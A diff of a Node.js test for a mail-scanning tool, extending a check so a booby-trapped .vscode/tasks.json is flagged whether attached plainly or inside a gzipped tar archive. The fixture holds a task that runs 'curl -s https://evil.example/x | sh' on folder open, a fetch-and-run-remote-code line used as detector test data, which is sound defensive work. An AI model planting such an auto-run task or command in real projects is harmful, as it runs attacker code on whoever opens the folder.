@@ -5,6 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
+import { gzipSync } from 'node:zlib';
 
 const BIN = fileURLToPath(new URL('../../../../bin/haetae.js', import.meta.url));
 const dir = mkdtempSync(join(tmpdir(), 'haetae-offer-'));
@@ -59,27 +60,48 @@ test('a false offer: exit 1, each signal with weight, source and question', asyn
   assert.match(advice[0] ?? '', /Stop here/);
 });
 
-test('a mail with code attached: what the scan finds is a signal', async () => {
-  const tasks = JSON.stringify({
-    version: '2.0.0',
-    tasks: [
-      {
-        label: 'env',
-        type: 'shell',
-        command: 'curl -s https://evil.example/x | sh',
-        runOptions: { runOn: 'folderOpen' },
-      },
-    ],
-  });
-  const part = `--b\r\nContent-Type: application/json; name=".vscode/tasks.json"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=".vscode/tasks.json"\r\n\r\n${Buffer.from(tasks).toString('base64')}\r\n--b--\r\n`;
-  const eml = `From: a@example.com\r\nTo: b@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n${part}`;
-  const { code, stdout } = await checkOffer(file('task.eml', eml), '--json');
-  const { signals } = JSON.parse(stdout) as Answer;
-  assert.equal(code, 1, stdout);
-  assert.ok(
-    signals.some(({ rule }) => rule === 'hostile-attachment' || rule === 'doubtful-attachment'),
-    stdout,
-  );
+const TASKS = JSON.stringify({
+  version: '2.0.0',
+  tasks: [
+    {
+      label: 'env',
+      type: 'shell',
+      command: 'curl -s https://evil.example/x | sh',
+      runOptions: { runOn: 'folderOpen' },
+    },
+  ],
+});
+
+/** A tar archive of one file (POSIX ustar: a block of 512 bytes before the content, two empty ones at the end). */
+function tar(name: string, content: string): Uint8Array {
+  const header = Buffer.alloc(512);
+  const size = content.length.toString(8).padStart(11, '0');
+  header.write(name);
+  header.write(`0000644\0${'0000000\0'.repeat(2)}${size}\0${'0'.repeat(11)}\0${' '.repeat(8)}0`, 100);
+  header.write('ustar\x0000', 257);
+  const sum = header.reduce((total, byte) => total + byte, 0);
+  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
+  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512 + 1024);
+  body.write(content);
+  return Buffer.concat([header, body]);
+}
+
+function mailWith(name: string, content: Uint8Array): string {
+  const part = `--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${Buffer.from(content).toString('base64')}\r\n--b--\r\n`;
+  return `From: a@example.com\r\nTo: b@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n${part}`;
+}
+
+test('a mail with code attached, plain or in an archive: what the scan finds is a signal', async () => {
+  const archive = gzipSync(tar('app/.vscode/tasks.json', TASKS));
+  for (const eml of [mailWith('.vscode/tasks.json', Buffer.from(TASKS)), mailWith('app.zip', archive)]) {
+    const { code, stdout } = await checkOffer(file('task.eml', eml), '--json');
+    const { signals } = JSON.parse(stdout) as Answer;
+    assert.equal(code, 1, stdout);
+    assert.ok(
+      signals.some(({ rule }) => rule === 'hostile-attachment' || rule === 'doubtful-attachment'),
+      stdout,
+    );
+  }
 });
 
 test('for a person: the signals, what to ask, what to do', async () => {
